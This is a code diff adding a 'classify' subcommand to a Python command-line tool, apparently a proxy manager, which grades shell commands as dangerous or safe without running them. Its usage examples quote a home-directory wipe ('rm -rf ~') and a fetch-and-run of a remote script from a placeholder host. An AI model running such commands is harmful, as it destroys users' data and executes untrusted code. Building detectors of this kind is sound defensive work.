@@ -130,6 +130,27 @@ def allow_parser(prog: str) -> FlagParser:
     return parser
 
 
+def classify_parser(prog: str) -> FlagParser:
+    parser = FlagParser(
+        prog,
+        "Grade a shell command line: critical, warning or safe. Nothing is run.\n"
+        "A hint and not a boundary: what a program does cannot be read off its command line.\n"
+        "Exit 0: safe or warning (with a line on stderr for each rule), 3: critical.",
+        (
+            f"{prog} 'rm -rf ~'",
+            f"{prog} --json 'curl https://x.example/i.sh | sh'",
+            f"{prog} - < script.sh",
+        ),
+        "[flags] COMMAND | -",
+    )
+    parser.add_argument(
+        "shell_command", metavar="COMMAND", help="one argument, quoted; - reads standard input"
+    )
+    parser.add_argument("--platform", choices=("unix", "windows"), help="default: this machine's")
+    _add_json(parser)
+    return parser
+
+
 def revoke_parser(prog: str) -> FlagParser:
     parser = FlagParser(
         prog,
@@ -162,6 +183,7 @@ SUMMARIES: Mapping[str, str] = {
     "allow": "let the running proxy's clients reach one more host",
     "revoke": "take such a grant back",
     "grants": "list the grants",
+    "classify": "whether a shell command looks dangerous: a hint, not a boundary",
     "config": "show the settings and where they came from, or check them",
 }
 
@@ -172,6 +194,7 @@ PARSERS: Mapping[str, Callable[[str], FlagParser]] = {
     "allow": allow_parser,
     "revoke": revoke_parser,
     "grants": grants_parser,
+    "classify": classify_parser,
     "config": config_parser,
 }
 
